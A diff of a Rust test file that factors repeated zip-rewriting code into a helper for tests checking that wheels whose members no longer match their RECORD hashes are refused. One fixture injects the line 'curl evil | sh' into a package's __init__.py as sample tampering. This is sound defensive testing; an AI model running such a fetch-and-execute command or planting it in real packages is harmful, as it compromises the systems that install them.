@@ -199,25 +199,11 @@ fn an_interrupted_bake_leaves_nothing_behind() {
 /// are checked when they are read into the archive.
 #[test]
 fn a_member_that_does_not_match_its_record_is_refused() {
-    use std::io::{Read, Write};
     let setup = Setup::new();
     let path = wheel(&setup.path("altered"), "alpha", "1.0", "py3-none-any", &[]);
-    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
-    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    let options = zip::write::SimpleFileOptions::default()
-        .compression_method(zip::CompressionMethod::Stored)
-        .last_modified_time(zip::DateTime::default());
-    for index in 0..zip.len() {
-        let mut member = zip.by_index(index).unwrap();
-        let mut data = Vec::new();
-        member.read_to_end(&mut data).unwrap();
-        if member.name() == "alpha/__init__.py" {
-            data = b"import os; os.system('curl evil | sh')\n".to_vec();
-        }
-        out.start_file(member.name(), options).unwrap();
-        out.write_all(&data).unwrap();
-    }
-    let bytes = out.finish().unwrap().into_inner();
+    let bytes = with_member_altered(&path, "alpha/__init__.py", |data| {
+        *data = b"import os; os.system('curl evil | sh')\n".to_vec();
+    });
     std::fs::write(setup.path("dist").join(path.file_name().unwrap()), &bytes).unwrap();
     let pinned = std::fs::read_to_string(setup.path("pinned.txt")).unwrap();
     let original = sha256(&std::fs::read(&path).unwrap());
@@ -233,7 +219,6 @@ fn a_member_that_does_not_match_its_record_is_refused() {
 /// a wheel no bake has checked are read and checked before any piece is copied.
 #[test]
 fn an_altered_member_is_refused_next_to_an_earlier_image_too() {
-    use std::io::{Read, Write};
     let setup = Setup::new();
     // alpha with a module big enough to start a piece of its own: that piece, and the rest of
     // the venv after it, are the same pieces for the altered wheel (same RECORD), so without
@@ -257,22 +242,9 @@ fn an_altered_member_is_refused_next_to_an_earlier_image_too() {
     );
     assert_eq!(earlier.code, 0, "{}", earlier.stderr);
 
-    let mut zip = zip::ZipArchive::new(std::fs::File::open(&path).unwrap()).unwrap();
-    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    let options = zip::write::SimpleFileOptions::default()
-        .compression_method(zip::CompressionMethod::Stored)
-        .last_modified_time(zip::DateTime::default());
-    for index in 0..zip.len() {
-        let mut member = zip.by_index(index).unwrap();
-        let mut data = Vec::new();
-        member.read_to_end(&mut data).unwrap();
-        if member.name() == "alpha/big.py" {
-            data[1000..1012].copy_from_slice(b"import evil\n");
-        }
-        out.start_file(member.name(), options).unwrap();
-        out.write_all(&data).unwrap();
-    }
-    let bytes = out.finish().unwrap().into_inner();
+    let bytes = with_member_altered(&path, "alpha/big.py", |data| {
+        data[1000..1012].copy_from_slice(b"import evil\n");
+    });
     std::fs::write(&path, &bytes).unwrap();
     std::fs::write(setup.path("altered.txt"), pinned.replace(&good, &sha256(&bytes))).unwrap();
     let image = images(&setup.path("earlier"))
@@ -295,4 +267,26 @@ fn an_altered_member_is_refused_next_to_an_earlier_image_too() {
     );
     assert!(!next.stderr.contains("not reused"), "{}", next.stderr);
     assert_eq!(images(&setup.path("next")), Vec::<String>::new());
+}
+
+/// The bytes of the wheel at `path` with its member `name` changed by `alter`, in a well-formed
+/// zip whose RECORD is untouched (so only the RECORD can tell).
+fn with_member_altered(path: &std::path::Path, name: &str, alter: impl Fn(&mut Vec<u8>)) -> Vec<u8> {
+    use std::io::{Read, Write};
+    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
+    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Stored)
+        .last_modified_time(zip::DateTime::default());
+    for index in 0..zip.len() {
+        let mut member = zip.by_index(index).unwrap();
+        let mut data = Vec::new();
+        member.read_to_end(&mut data).unwrap();
+        if member.name() == name {
+            alter(&mut data);
+        }
+        out.start_file(member.name(), options).unwrap();
+        out.write_all(&data).unwrap();
+    }
+    out.finish().unwrap().into_inner()
 }
